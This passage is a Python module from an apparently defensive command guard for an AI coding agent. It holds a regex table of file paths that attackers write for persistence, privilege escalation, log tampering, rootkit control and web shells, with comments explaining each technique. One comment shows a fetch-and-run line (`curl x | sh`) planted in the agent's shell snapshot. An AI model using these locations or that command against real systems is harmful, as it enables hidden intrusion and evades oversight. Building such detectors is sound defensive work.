"""Where writing is a tactic: the places a write (or a delete) makes code run later, or hides it.

A write to ``~/.bashrc`` is a write to a file; what makes it an attacker's
tactic is where the file is: the shell runs it at every start. This module is
the one table of such places, each with its category (:mod:`.verdict`) and
what it is. Every writer consults it: redirections, ``tee``, the destination of
``cp``/``mv``/``install``/``ln``, output options, ``sed -i``, ``truncate``,
``rm`` (through :func:`written`), and the file-tool guard for its writes. The
category then goes through the policy like any finding: ``~/.bashrc`` asks,
``/etc/ld.so.preload`` blocks.

A row is a regular expression matched against the whole normalised path, in
which a leading ``~`` stands for any home directory (the user's, ``/root``,
``/home/NAME``, ``/Users/NAME``): a profile written into another account is as
much a profile. The first matching row wins, so a narrower row goes first
(``*.timer`` in a unit directory is a scheduled task, the rest a service).

Only absolute paths are locations. A relative path whose directory is unknown
is in the project (``deploy/app.service``, ``dotfiles/.bashrc``): writing it
changes nothing until someone installs it. The one exception is
``.ssh/authorized_keys``, which grants a login wherever it is (``ssh host 'cat >>
.ssh/authorized_keys'`` writes the remote home's).
"""

from __future__ import annotations

import os
import re

from ..lazy_regex import lazy_compile
from .operands import mounted_root, system_file
from .paths import display_path, host_dir_path, normalize_path
from .verdict import (
    DATA_DESTRUCTION,
    EVIDENCE,
    IMPAIR,
    PRIVILEGE,
    PROFILE,
    SCHEDULED,
    SERVICE,
    STEALTH_PERSISTENCE,
    SUDO_INSTALL,
    SYSTEM_CONFIG,
    SYSTEM_FILES,
)

__all__ = ["PROCESS_ROOT", "ROWS", "location", "top_level_file", "written"]

_CLAUDE_SHELL_STATE = (
    "Claude Code's shell snapshot or session environment: sourced before every later Bash command"
)
_SHELL_FILES = (
    r"bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|zlogout|shrc|kshrc|"
    r"mkshrc|cshrc|tcshrc|login|logout|xprofile|xsessionrc|xinitrc|xsession|inputrc|pam_environment|"
    r"bash_aliases|zsh_aliases|aliases"
)
_UNIT_DIRS = (
    r"/(?:etc|usr/lib|lib|usr/local/lib|run)/systemd/(?:system|user)(?:\.control)?"
    r"|~/\.config/systemd/user|~/\.local/share/systemd/user"
)
_LAUNCHD_DIRS = r"(?:~|/System)?/Library/Launch(?:Agents|Daemons)"

_CA_STORES = (
    r"/(?:usr/local|usr)/share/ca-certificates(?:/.*)?|/etc/ca-certificates(?:\.conf|/.*)?"
    r"|/etc/ssl/(?:certs(?:/(?![^/]*dhparam[^/]*$).*)?|cert\.pem)"
    r"|/etc/pki/(?:ca-trust|tls/certs|trust)(?:/(?![^/]*dhparam[^/]*$).*)?"
    r"|/usr/share/pki/(?:ca-trust-source|trust)(?:/.*)?|/(?:usr/local|opt/homebrew)/etc/(?:openssl[^/]*|ca-certificates)/"
    r"(?:cert\.pem|certs(?:/.*)?)|/(?:usr/lib/jvm|Library/Java|opt)/.*/security/cacerts|/etc/ssl/certs/java/cacerts"
    r"|(?:/System)?/Library/Keychains/.*|~/\.pki/nssdb(?:/.*)?|.*/(?:site|dist)-packages/certifi/cacert\.pem"
    r"|/usr/local/share/certs(?:/.*)?|/usr/share/certs/trusted(?:/.*)?|/usr/local/etc/ssl/certs(?:/.*)?"
)
"""Where the certificates every program trusts live. A file named for Diffie-Hellman parameters
(``openssl dhparam -out /etc/ssl/certs/dhparam.pem``, a web server's set-up) is no certificate: its
write is the machine's configuration (asked), not a new root of trust."""
_HISTORY_FILES = (
    r"~/\.(?:[a-z0-9_]+_history|zhistory|histfile|history|lesshst|viminfo)"
    r"|~/\.(?:local/share|config)/fish/fish_history|~/\.(?:zsh|bash)_sessions(?:/.*)?"
)

_WEB_SCRIPTS = r"(?:php\d?|phtml|phar|inc|cgi|pl|py|rb|jsp|jspx|aspx?|ashx|sh|shtml)"

UDEV_RULE = "a udev rule: a program run as root whenever a device (a network interface) appears"
"""What a file of a udev rules directory is (:mod:`.device_rules` settles the rules that run nothing)."""
_COMMONDIR_WHAT = (
    "a repository's commondir: git then reads the repository's config (a core.fsmonitor it runs at every "
    "git status) from the directory it names"
)

ROWS: tuple[tuple[str, str, str], ...] = (
    # -- privilege: who may become root, and how -------------------------------------------------------
    # /etc/sudoers, /etc/doas.conf and /etc/pam.d are system files (seed 000's category): blocked as such.
    (r"(?:/usr/local|/usr/pkg|/opt/homebrew)/etc/(?:sudoers|doas\.conf)(?:[-~]|\.(?:bak|old|orig|tmp|new))?"
     r"|(?:/usr/local|/usr/pkg|/opt/homebrew)/etc/sudoers\.d(?:/.*)?",
     PRIVILEGE, "sudo's rules: who may run what as root"),
    (r"/usr/local/etc/pam\.d(?:/.*)?|/etc/pam\.conf|/usr/lib/pam\.d(?:/.*)?|/usr/lib/pam(?:/.*)?"
     r"|/(?:usr/)?lib(?:64)?(?:/[^/]*-linux-gnu[^/]*)?/security(?:/.*)?"
     r"|/usr/share/pam-configs/.*",  # Debian's PAM profiles, merged into common-auth by pam-auth-update
     PRIVILEGE, "PAM, which decides every login and sudo"),
    (r"/etc/polkit-1(?:/.*)?|/usr/share/polkit-1/(?:rules\.d|actions)(?:/.*)?|/var/lib/polkit-1(?:/.*)?",
     PRIVILEGE, "polkit's rules: who may act as root"),
    (r"/proc/sys/kernel/(?:core_pattern|modprobe)|/proc/sys/fs/binfmt_misc/.*", PRIVILEGE,
     "a program the kernel runs as root"),
    # The host's /proc or /sys given to a container elsewhere (-v /proc:/host-proc, a hostPath at /host/proc):
    # the same hooks, under another top.
    (r"/.+/sys/kernel/(?:core_pattern|modprobe|hotplug)|/.+/kernel/uevent_helper|/.+/sys/fs/binfmt_misc/.+",
     PRIVILEGE,
     "a program the kernel runs as root, through a /proc or /sys mounted elsewhere (the host's)"),
    # A kernel hook by its file name wherever the host's /proc/sys is mounted (/sysproc/core_pattern).
    (r"/.+/(?:core_pattern|uevent_helper)|/.+/binfmt_misc/register", PRIVILEGE,
     "a program the kernel runs as root, by its hook's name in a /proc or /sys mounted elsewhere"),
    (r"/.+/(?:release_agent|notify_on_release)", PRIVILEGE,
     "a cgroup's release agent: a program the host's kernel runs as root (the container escape)"),
    (r"/(?!sys/).+/cgroup\.procs", SYSTEM_CONFIG,
     "a cgroup mounted outside /sys/fs/cgroup, a process moved into it (the release-agent escape's trigger)"),
    (r"/var/db/\.AppleSetupDone", PRIVILEGE,
     "macOS's setup marker: without it the next boot offers to create a new administrator"),
    # -- defenses: security policy, audit, logging, firewall, trusted roots --------------------------
    (r"/etc/selinux(?:/.*)?|/etc/sysconfig/selinux|/etc/apparmor(?:\.d)?(?:/.*)?|/sys/fs/selinux(?:/.*)?|/selinux(?:/.*)?"
     r"|/sys/kernel/security(?:/.*)?", IMPAIR,
     "the mandatory access control policy (SELinux, AppArmor)"),
    (r"/etc/audit(?:/.*)?|/etc/audisp(?:/.*)?|/etc/rsyslog\.(?:conf|d(?:/.*)?)|/etc/syslog(?:-ng)?(?:\.conf|/.*)"
     r"|/etc/systemd/journald\.conf(?:\.d/.*)?|/etc/asl(?:\.conf|/.*)|/etc/newsyslog\.(?:conf|d/.*)",
     IMPAIR, "the audit and logging configuration"),
    (r"/etc/ufw(?:/.*)?|/etc/default/ufw|/etc/iptables(?:/.*)?|/etc/sysconfig/ip6?tables|/etc/nftables\.conf"
     r"|/etc/firewalld(?:/.*)?|/etc/pf\.(?:conf|anchors(?:/.*)?)", IMPAIR, "the firewall's rules"),
    (r"/(?:var/)?run/clamav/.*|/usr/local/(?:aegis|qcloud|cloudmonitor)(?:/.*)?|/opt/(?:CrowdStrike|sentinelone|microsoft/mdatp|carbonblack|cylance|sophos-spl|eset|Tanium|traps|qualys"
     r"|rapid7|osquery|wazuh|falco|tetragon)(?:/.*)?|/var/ossec(?:/.*)?|/Library/CS(?:/.*)?|/etc/osquery(?:/.*)?"
     r"|/Applications/(?:Falcon|SentinelOne|Little Snitch|LuLu|BlockBlock Helper|Microsoft Defender)[^/]*"
     r"\.app(?:/.*)?|/Library/(?:Application Support|Sentinel|Objective-See)/"
     r"(?:CrowdStrike|SentinelOne|Objective-See)(?:/.*)?",
     IMPAIR, "a security agent's files"),
    (_CA_STORES, IMPAIR, "the trusted root certificates: a new one lets its owner read all TLS traffic"),
    (r"/(?:private/)?var/db/ConfigurationProfiles(?:/.*)?|/Library/Managed Preferences(?:/.*)?", IMPAIR,
     "the machine's configuration profiles and managed settings (its device management)"),
    # Anywhere: tccd reads the database under whatever HOME launchd gives it (CVE-2020-9934).
    (r"(?:~|/.+)?/Library/Application Support/com\.apple\.TCC(?:/.*)?", IMPAIR,
     "macOS privacy permissions (TCC)"),
    (r"/Library/Preferences/com\.apple\.(?:alf|security(?:\.[a-z]+)?)\.plist|/Library/Apple(?:/.*)?"
     r"|/var/db/(?:SystemPolicy|SystemPolicyConfiguration)(?:/.*)?", IMPAIR,
     "a macOS protection's settings (firewall, Gatekeeper, XProtect)"),
    (r"/proc/sys/kernel/(?:randomize_va_space|yama/ptrace_scope|kptr_restrict|dmesg_restrict|"
     r"unprivileged_bpf_disabled|perf_event_paranoid|kexec_load_disabled)|/proc/sys/fs/protected_.*",
     IMPAIR, "a kernel hardening setting"),
    (r"/proc/sys/vm/drop_caches", IMPAIR, "the kernel's page cache: dropping it discards traces in memory"),
    (r"/proc/(?:self|thread-self|\d+|\$\$|\$!|\$\{?\w+\}?)/(?:task/[^/]+/)?comm", IMPAIR,
     "a process's name as ps and top show it: renamed, a masquerade"),
    # A file at the top of /proc is the kernel's, and read only (modules, kallsyms, version): one written,
    # or one no kernel makes (/proc/rootkit), is a loaded rootkit's command channel (echo hide > /proc/x).
    (r"/proc/(?!(?:sysrq-trigger|mtrr|self|thread-self|\d+|\$.*|sys|acpi|driver|irq|fs|net|scsi|asound|"
     r"bus|tty|sysvipc|pressure|spl|ibm|i8k|pmu|device-tree|config\.gz)(?:/|$))[\w.-]+", IMPAIR,
     "a file at the top of /proc written: a loaded kernel rootkit's command channel (no kernel file there "
     "takes writes)"),
    # Daemons' and kernel threads' names (sshd_fake, systemd-helper, kworker, kswapd0): a program planted
    # under one passes for the system's in ps; nothing a developer installs is named so.
    (r"/usr/local/s?bin/(?:sshd[-_.\w]*|systemd|systemd-\w*d|systemd[-_.](?:helper|update|updater|service|"
     r"worker|agent|daemon|monitor|core|init)|kworker\S*|kthreadd|kswapd\w*|"
     r"ksoftirqd\S*|kdevtmpfs\w*|kauditd|khugepaged|migration\S*|rcu_\w+|watchdogd|dbus-daemon[-_.\w]*|"
     r"rsyslogd|syslogd|journald|auditd|udevd|agetty|getty|init|polkitd|irqbalance|atd|cupsd|"
     r"accounts-daemon|networkd|NetworkManager|\[[^/]+\])", SYSTEM_FILES,
     "a program given a daemon's or kernel thread's name, so it passes for the system's in ps"),
    # /usr/local/bin comes first on PATH: a program there named like a system tool (built with gcc -o,
    # copied, installed) is what every later ps, netstat or lsof runs, a trojan that hides its owner.
    (r"/usr/local/s?bin/(?:ps|ls|netstat|ss|lsof|top|htop|pstree|pgrep|pidof|who|w|last|lastb|lastlog|find|du|"
     r"df|ip|ifconfig|route|iptables|dmesg|lsmod|modinfo|strace|ldd|stat|md5sum|sha(?:1|256|512)sum|uptime|"
     r"id|whoami|login|sshd|ssh|sudo|su|passwd|cron|crond|crontab|systemctl|journalctl|kill|"
     r"killall)", SYSTEM_FILES, "a system tool shadowed by a program of the same name earlier on PATH"),
    # -- evidence: logs and history ----------------------------------------------------------------------
    (r"/var/log(?:/.*)?|/var/adm(?:/.*)?|/run/log(?:/.*)?|/(?:var/)?run/(?:utmp|wtmp|btmp)(?:x)?"
     r"|/var/audit(?:/.*)?|/var/db/(?:diagnostics|uuidtext)(?:/.*)?|/Library/Logs(?:/.*)?"
     r"|~/Library/Logs(?:/DiagnosticReports(?:/.*)?)?"
     r"|/var/lib/docker/containers/.*\.log(?:\.\d+)?",
     EVIDENCE, "the system's logs"),
    (r"~/Library/(?:Mail|Mobile Documents/com~apple~mail/Data)/V\d+/MailData/(?:ubiquitous_)?"
     r"(?:SyncedRules|RulesActiveState|MessageRules)[^/]*\.plist", STEALTH_PERSISTENCE,
     "Mail's rules: a rule may run an AppleScript when a matching mail arrives"),
    (r"/var/(?:spool/)?mail(?:/.*)?|~/Library/Mail(?:/.*)?", EVIDENCE,
     "the mailboxes (where cron and the security tools report)"),
    (_HISTORY_FILES, EVIDENCE, "shell history"),
    (r"~/\.local/share/recently-used\.xbel|~/Library/Preferences/com\.apple\.LaunchServices\.QuarantineEvents.*"
     r"|~/Library/Preferences/com\.apple\.recentitems\.plist"
     r"|~/Library/Application Support/com\.apple\.sharedfilelist(?:/.*)?",
     EVIDENCE, "the record of files opened or downloaded"),
    # -- hidden persistence: code every process, login or interpreter loads ---------------------
    (r"/etc/ld\.so\.preload", STEALTH_PERSISTENCE, "the dynamic loader's preload list"),
    (r"/etc/ld\.so\.conf(?:\.d/.*)?", STEALTH_PERSISTENCE, "the dynamic loader's library path"),
    (r"/etc/modules|/etc/modules-load\.d/.*|/(?:usr/)?lib/modules-load\.d/.*", STEALTH_PERSISTENCE,
     "the kernel modules loaded at boot"),
    (r"/etc/modprobe\.d/.*|/(?:usr/)?lib/modprobe\.d/.*", STEALTH_PERSISTENCE, "kernel module options"),
    (r"/(?:usr/)?lib/modules/.*", STEALTH_PERSISTENCE, "the kernel modules"),
    (r"(?:/System)?/Library/(?:Extensions|StagedExtensions)/.*", STEALTH_PERSISTENCE,
     "the kernel extensions"),
    (r".*/\.ssh/authorized_keys[^/]*|/etc/ssh/authorized_keys(?:/.*)?", STEALTH_PERSISTENCE,
     "SSH authorized keys: writing one grants a login"),
    (r"~/\.ssh/rc|/etc/ssh/sshrc", STEALTH_PERSISTENCE, "a script ssh runs at every login"),
    # git writes a linked worktree's commondir itself; written by hand into a repository's own git
    # directory it moves the config, and the core.fsmonitor the next git status runs, elsewhere
    # (the sandbox cannot hold a name that does not exist yet: docs/sandbox.md, Limits).
    (r".*/\.git/commondir", STEALTH_PERSISTENCE, _COMMONDIR_WHAT),
    (r"~/(?:\.local/bin|bin)/(?:ssh|scp|sftp|sudo|su|doas|passwd|kinit|gpg2?|pinentry[^/]*|mysql|psql)",
     STEALTH_PERSISTENCE, "a program that asks for passwords, shadowed in the user's own bin directory "
     "(searched first): the user's next password goes through it"),
    (r"/(?:etc|lib|usr/lib|usr/local/lib|run)/udev/rules\.d/.*", STEALTH_PERSISTENCE,
     UDEV_RULE),
    # /usr/local/sbin/.auth-helper, /usr/bin/.sshd: no package installs a dot name right where programs and
    # libraries live (Fedora's /usr/lib/.build-id index aside); a PAM or udev hook's script is hidden so.
    (r"/(?:usr/(?:local/)?)?(?:s?bin|lib(?:32|64|exec)?)/\.(?!build-id(?:/|$)|\.?(?:/|$))[^/]+(?:/.*)?",
     STEALTH_PERSISTENCE, "a hidden name among the system's programs: a payload kept out of ls"),
    (r"/var/db/launchd\.db(?:/.*)?|/var/db/com\.apple\.xpc\.launchd(?:/.*)?", STEALTH_PERSISTENCE,
     "launchd's own record of which jobs are enabled or disabled: a job turned on, or a protection off"),
    (r"/etc/emond\.d/.*|/var/db/emondClients(?:/.*)?", STEALTH_PERSISTENCE,
     "the macOS event monitor's rules, run as root"),
    (r"/Library/Security/SecurityAgentPlugins(?:/.*)?|/Library/DirectoryServices/PlugIns(?:/.*)?",
     STEALTH_PERSISTENCE, "a macOS authorization or directory plug-in, loaded as root at every login"),
    # An app's privileged helper (SMJobBless): launchd runs the binary there as root for the daemon
    # that names it; an implant put there passes for one (STRATOFEAR as us.zoom.ZoomHelperTool).
    (r"/Library/PrivilegedHelperTools(?:/.*)?", SERVICE,
     "a privileged helper tool: launchd runs it as root for the daemon that names it"),
    # A wallet app deleted, moved away or copied over: the stealers' wallet swap (AMOS, Odyssey put a
    # look-alike Ledger Live or Trezor Suite in its place). Installing or removing one is no coding task.
    (r"(?:~)?/Applications/(?:Ledger Live|Ledger Wallet|Trezor Suite|Exodus|Atomic Wallet|Electrum(?:-LTC)?"
     r"|Electron Cash|Wasabi Wallet|Coinomi|Guarda|Sparrow|BlueWallet|Bitcoin-Qt|Bitcoin Core|Litecoin-Qt"
     r"|Dogecoin-Qt|Monero(?: GUI)?|monero-wallet-gui|Trust Wallet|Tonkeeper|Feather Wallet)"
     r"(?:[ -][^/]*)?\.app",
     STEALTH_PERSISTENCE,
     "a crypto wallet app: one swapped for a look-alike takes the seed phrase typed into it next"),
    (r"(?:~)?/Applications/(?:[^/]+/)*[^/]+\.app/Contents/.+", STEALTH_PERSISTENCE,
     "an installed app's own code or resources: what is put there runs whenever the user opens the app"),
    (r".*/(?:site|dist)-packages/[^/]+\.pth", STEALTH_PERSISTENCE,
     "a Python .pth file, run by every Python start"),
    (r".*/(?:sitecustomize|usercustomize)\.py", STEALTH_PERSISTENCE, "Python start-up code"),
    # IPython runs every file of a profile's startup directory, and reads the profile from the directory
    # it starts in too (CVE-2022-21699: /tmp/profile_default/startup/x.py runs in whoever starts it there)
    (r".*/profile_[^/]+/startup/[^/]+|.*/\.ipython/profile_[^/]+/ipython_(?:kernel_)?config\.py"
     r"|~/\.jupyter/jupyter_[a-z_]+_config\.py",
     STEALTH_PERSISTENCE, "IPython's or Jupyter's start-up code, run at every start"),
    (r"/etc/default/grub(?:\.d/.*)?|/etc/grub\.d/.*|/etc/dracut\.conf(?:\.d/.*)?|/(?:usr/)?lib/dracut/(?:modules\.d|dracut\.conf\.d)/.*"
     r"|/etc/initramfs-tools/.*|/usr/share/initramfs-tools/.*|/etc/mkinitcpio\.(?:conf|d/.*)"
     r"|/etc/kernel/(?:postinst|preinst|postrm|install)\.d/.*|/usr/lib/kernel/install\.d/.*",
     STEALTH_PERSISTENCE, "the boot loader's or the initramfs's configuration: code run as root at boot"),
    (r"/(?:etc|usr/lib|lib|run|usr/local/lib)/systemd/(?:system|user)-(?:generators|environment-generators)/.*",
     STEALTH_PERSISTENCE, "a systemd generator, run as root at every boot and reload"),
    (r"/etc/NetworkManager/dispatcher\.d/.*|/etc/network/if-(?:pre-up|up|down|post-down)\.d/.*"
     r"|/etc/ppp/ip-(?:up|down|pre-up)(?:\.d/.*)?|/etc/dhcp/dhclient-(?:enter|exit)-hooks\.d/.*"
     r"|/etc/dhcp/dhclient\.d/.*|/etc/sysconfig/network-scripts/.*",
     STEALTH_PERSISTENCE, "a script run as root whenever the network changes"),
    (r"/etc/apt/apt\.conf(?:\.d/.*)?|/etc/yum/pluginconf\.d/.*|/usr/lib/yum-plugins/.*|/etc/dnf/plugins/.*"
     r"|.*/(?:site|dist)-packages/dnf-plugins/.*|/etc/pacman\.d/hooks/.*|/usr/share/libalpm/hooks/.*",
     STEALTH_PERSISTENCE, "a package manager's hooks and plug-ins, run as root at every install or update"),
    (r"~/\.?git[-_]?templates?/.*|~/\.config/git/(?:hooks|templates?)/.*"
     r"|/usr(?:/local)?/share/git-core/templates/.*", STEALTH_PERSISTENCE,
     "git's hook templates, copied into every new repository"),
    # -- scheduled tasks ---------------------------------------------------------------------------
    (r"/etc/(?:crontab|anacrontab|cron\.(?:d|hourly|daily|weekly|monthly|yearly)(?:/.*)?|cron\.(?:allow|deny))"
     r"|/var/spool/(?:cron|anacron|at|atjobs|incron|fcron)(?:/.*)?|/var/at/(?:tabs|jobs)(?:/.*)?"
     r"|/usr/lib/cron/tabs(?:/.*)?|/etc/incron\.(?:d/.*|allow|deny|conf)|~/\.anacrontab"
     r"|/etc/periodic/.*|/usr/local/etc/periodic/.*|/etc/periodic\.conf(?:\.local)?",
     SCHEDULED, "a scheduled task (cron, at, periodic)"),
    (rf"(?:{_UNIT_DIRS})/.*\.timer", SCHEDULED, "a systemd timer"),
    (rf"{_LAUNCHD_DIRS}(?:/.*)?|/etc/launchd(?:-user)?\.conf", SCHEDULED,
     "a launchd agent or daemon, started at login or boot"),
    (r"(?:~|)/Library/Scripts/Folder Action Scripts/.*|~/Library/Workflows/Applications/Folder Actions/.*",
     SCHEDULED, "a folder action: a script run when a folder changes"),
    # -- services --------------------------------------------------------------------------------
    (r"/(?:usr/(?:local/)?)?share/dbus-1/(?:system-)?services/.*|/(?:etc|usr/share)/dbus-1/(?:system|session)\.d/.*"
     r"|~/\.local/share/dbus-1/services/.*",
     SERVICE, "a D-Bus service: started on demand, as root for the system bus"),
    (rf"(?:{_UNIT_DIRS})(?:/.*)?", SERVICE, "a systemd unit"),
    (r"~/\.config/upstart/.*|~/\.init/.*|/etc/xdg/upstart/.*|/usr/share/upstart/sessions/.*",
     SERVICE, "an Upstart session job, started at the user's login"),
    (r"/etc/(?:init\.d|rc\.d|rc[0-6S]\.d|init|xinetd\.d|supervisor/conf\.d|supervisord\.d)(?:/.*)?"
     r"|/etc/rc\.local|/etc/rc\.conf\.local|/etc/supervisord\.conf|/etc/xinetd\.conf|/etc/rc\.common"
     r"|(?:/System)?/Library/StartupItems(?:/.*)?",
     SERVICE, "a boot script or service definition"),
    (r"/(?:docker-)?entrypoint(?:\.sh)?|/docker-entrypoint\.d/.*|/usr/local/bin/(?:docker-)?entrypoint(?:\.sh)?"
     r"|/(?:start|run|init)\.sh",
     SERVICE, "a container's entrypoint: run as the container's main process at every start"),
    (rf"(?:/var/www|/srv/(?:http|www)|/usr/share/nginx|/usr/local/var/www|/opt/homebrew/var/www)/.*\.{_WEB_SCRIPTS}"
     r"|/(?:usr/lib|usr/share|var/www|srv/www)/cgi-bin/.*|/Library/WebServer/(?:Documents|CGI-Executables)/.*"
     # a Java server deploys whatever lands in webapps (a .war unpacked, a .jsp compiled on first request)
     r"|/(?:var/lib|usr/share|usr/local|opt)/(?:tomcat|jetty|apache-tomcat)[^/]*/webapps/.+",
     SERVICE, "a web server's scripts: a file here runs for anyone who requests it (a web shell)"),
    # -- shell profiles and session autostart ------------------------------------------------------
    (rf"~/\.(?:{_SHELL_FILES})(?:[.-]local)?|~/\.(?:bashrc|zshrc|profile|shrc)\.d/.*"
     r"|~/\.oh-my-zsh/custom/.*|~/\.config/(?:fish|zsh|bash)/.*|~/\.config/environment\.d/.*"
     r"|~/\.config/shell/.*"
     # PowerShell's profiles ($PROFILE): Windows' Documents, and pwsh's on Linux and macOS
     r"|~/(?:Documents/(?:Windows)?PowerShell|\.config/powershell)/(?:Microsoft\.\w+_)?profile\.ps1",
     PROFILE, "a shell start-up file"),
    # Claude Code's Bash tool runs each command as `bash -c 'source ~/.claude/shell-snapshots/snapshot-*.sh
    # && eval CMD'` (2.1.332, seen with the real CLI): a line added to the snapshot runs before every
    # later command of the session (`ls() { curl x | sh; }`), unseen. session-env holds the scripts
    # hooks write through $CLAUDE_ENV_FILE, sourced the same way. Claude Code's own file tools refuse both.
    # $CLAUDE_CONFIG_DIR moves them (:func:`_claude_shell_state`).
    (r"~/\.claude/(?:shell-snapshots|session-env)(?:/.*)?", STEALTH_PERSISTENCE, _CLAUDE_SHELL_STATE),
    (r"/etc/(?:profile|bashrc|bash\.bashrc|bash\.bash_logout|zshrc|zshenv|zprofile|zlogin|zlogout|csh\.cshrc|"
     r"csh\.login|csh\.logout|inputrc|ksh\.kshrc)"
     r"|/etc/(?:profile\.d|zsh|fish|bash_completion\.d|X11/Xsession\.d)/.*",
     PROFILE, "a shell start-up file of every user"),
    # Linux desktops: XDG autostart (~/.local/share/autostart and /usr/share/autostart too), KDE's
    # login and logout scripts, and the window managers' own start-up files (every exec line of i3's,
    # sway's or Hyprland's configuration runs at each login).
    (r"~/\.config/autostart/.*|/etc/xdg/autostart/.*|~/\.kde4?/Autostart/.*"
     r"|~/\.local/share/autostart/.*|/usr/(?:local/)?share/autostart/.*|~/\.config/autostart-scripts/.*"
     r"|~/\.config/plasma-workspace/(?:env|shutdown)/.*"
     r"|~/\.config/(?:openbox|labwc|herbstluftwm|lxsession/[^/]+|lxqt)/autostart(?:\.sh)?"
     r"|~/\.config/(?:i3|sway|i3-regolith)/config|~/\.config/hypr/hyprland\.conf|~/\.config/bspwm/bspwmrc"
     r"|~/\.config/qtile/autostart\.sh|~/\.config/river/init|~/\.config/niri/config\.kdl"
     # a desktop entry of the user's shadows the system's of the same name, and the file associations
     # pick which entry opens a file: an Exec= line run whenever the user opens that app or file type
     r"|~/\.local/share/applications/.*\.desktop|~/\.config/(?:[^/]+-)?mimeapps\.list"
     r"|~/\.local/share/applications/(?:[^/]+-)?mimeapps\.list"
     r"|~/Library/Preferences/(?:ByHost/)?com\.apple\.(?:loginwindow|loginitems)[^/]*\.plist"
     r"|~/Library/Application Support/com\.apple\.backgroundtaskmanagementagent/.*"
     r"|~/Library/Preferences/com\.apple\.dock\.plist"
     r"|~/Library/Application Support/iTerm2/Scripts/AutoLaunch/.*",
     PROFILE,
     "a program started at every desktop login, or the app that opens a file"),
    # Folders macOS or an app loads plug-in code from (the Beyond-the-LaunchAgents places): a screen
    # saver, a colour picker, a preference pane, a Spotlight importer or Quick Look generator (loaded by
    # mds and quicklookd unasked), an audio unit or driver (coreaudiod, as root for HAL), an input
    # method, a Services or Mail bundle, a menu-bar script (xbar, SwiftBar), Hammerspoon's init.lua.
    (r"(?:~|)/Library/(?:ColorPickers|Screen Savers|PreferencePanes|Spotlight|QuickLook"
     r"|Audio/(?:Plug-Ins|MIDI Drivers)|Input Methods|Internet Plug-Ins|Contextual Menu Items|Services"
     r"|Mail/Bundles|Address Book Plug-Ins"
     r"|Widgets|Components|Automator|Image Capture/Devices|Printers/Plugins|Keyboard Layouts)(?:/.*)?"
     r"|~/Library/Application Support/(?:xbar|BitBar|SwiftBar)/.*|~/\.hammerspoon/.*"
     r"|~/Library/Preferences/com\.apple\.LaunchServices(?:/.*)?",
     PROFILE, "a folder macOS or an app loads plug-in code from, or the table of which app opens which "
     "file or link: what is put there runs inside them, unasked"),
    # A configuration profile written where it is opened from to be installed: one click sets the
    # machine's proxies, DNS and trusted root CAs (a stealer's profile decoded from base64 into /tmp,
    # or into /Users/Shared, which every account of the Mac reads and writes).
    (r"(?:/private)?(?:/tmp|/var/tmp|/var/folders|/Users/Shared)/(?:[^/]+/)*[^/*?]+\.mobileconfig"
     r"|~/(?:Downloads|Desktop)/(?:[^/]+/)*[^/*?]+\.mobileconfig",
     SYSTEM_CONFIG, "a configuration profile kept where it is opened to install: it can set the machine's "
     "proxies, DNS and trusted root certificates"),
    # A font folder holds fonts only: a hidden file or a program put there (``/Library/Fonts/.x``,
    # ``~/Library/Fonts/update.sh``) is a payload kept where nobody looks. A glob, a folder's own path and a
    # name with no extension (a font family's folder: ``cp -R fonts/JetBrainsMono ~/Library/Fonts/``) pass.
    (r"(?:~|)/Library/Fonts/(?:(?:[^/]+/)*\.[^/]+/[^/*?\[]+|(?:[^/]+/)*"
     r"(?![^/]*\.(?:ttf|otf|ttc|otc|dfont|woff2?|fon|fnt|pfb|pfm|afm|bdf|pcf|suit)(?:\.gz)?$)"
     r"(?=\.|[^/]*\.)[^/*?\[]+)",
     STEALTH_PERSISTENCE, "a font folder, where a file that is not a font is a hidden payload"),
    (r"~/\.(?:vimrc|gvimrc|exrc|emacs|emacs\.el)|~/\.vim/(?:after/)?(?:plugin|autoload|ftplugin|ftdetect)/.*"
     r"|~/\.config/nvim/(?:init\.(?:vim|lua)|(?:after/)?(?:plugin|lua|autoload|ftplugin)/.*)"
     r"|~/\.(?:emacs\.d|config/emacs)/(?:init|early-init)\.el|/etc/vim/vimrc(?:\.local)?|/usr/share/vim/vimfiles/plugin/.*"
     r"|~/Library/Application Support/Sublime Text(?: \d)?/Packages/.*"
     r"|~/\.config/sublime-text(?:-\d)?/Packages/.*|~/\.atom/(?:init\.(?:coffee|js)|packages/.*)",
     PROFILE, "an editor's start-up code (vim, neovim, emacs, Sublime Text, Atom): it runs at each start"),
    (r"~/\.gitconfig|~/\.config/git/config|/etc/gitconfig", PROFILE,
     "git's configuration: its aliases, pager and hooks run from it"),
    (r"~/\.ssh/config|~/\.ssh/config\.d/.*", PROFILE,
     "ssh's configuration: its ProxyCommand and LocalCommand run at every connection"),
    # -- data: the database servers' own files (a dump or the client changes them, not a write); a
    # stale pid, lock or socket file removed after a crash (postmaster.pid) is a developer's fix ------
    (r"(?:/var/lib/(?:mysql|mariadb|postgresql|pgsql|mongodb|mongo|redis|elasticsearch|opensearch|cassandra"
     r"|influxdb|clickhouse|couchdb|neo4j|etcd)|/usr/local/var/(?:mysql|postgres(?:ql@?\d*)?))"
     r"/(?!(?:.*/)?[^/]*\.(?:pid|lock|sock|socket)$).+",
     DATA_DESTRUCTION, "a database server's data files"),
    # -- an ESXi host: its datastores hold every guest's disks, configuration and snapshots (what ESXi
    # ransomware rewrites, encrypts or deletes); an ISO uploaded to one is not a guest's file --------
    (r"/vmfs/volumes/(?:[^/]+/)+[^/]*(?:\.(?:vmdk|vmx|vmxf|vmsd|vmsn|vswp|vmss|nvram|vmem|vmtx)|\*)",
     DATA_DESTRUCTION, "an ESXi datastore's virtual machine files (disks, configurations, snapshots)"),
    (r"/vmfs/volumes/[^/]+/(?!(?:.*/)?[^/]*\.iso$).+", DATA_DESTRUCTION,
     "an ESXi datastore's virtual machine folders"),
    (r"/scratch/log(?:/.*)?", EVIDENCE, "the ESXi host's logs"),
    (r"/(?:alt)?bootbank(?:/.*)?|/store/packages(?:/.*)?|/locker/packages(?:/.*)?|/usr/lib/vmware(?:/.*)?",
     SYSTEM_FILES, "the ESXi host's boot modules and system files"),
    # -- the machine's own programs and boot loader: the package manager's to write --------------
    (r"/(?:usr/)?s?bin/.+|/usr/libexec/.+|/boot/.+|/System/.+", SYSTEM_FILES,
     "a system program or the boot loader"),
    (r"/(?:usr/)?lib(?:32|64|x32)?/(?:[^/]+/)*[^/]+\.so(?:\.[0-9]+)*", SYSTEM_FILES,
     "a system library: every program linking it runs its code (libaudit.so.1 under su)"),
    # /usr/local is the user's own prefix for programs and headers; its library directory is searched
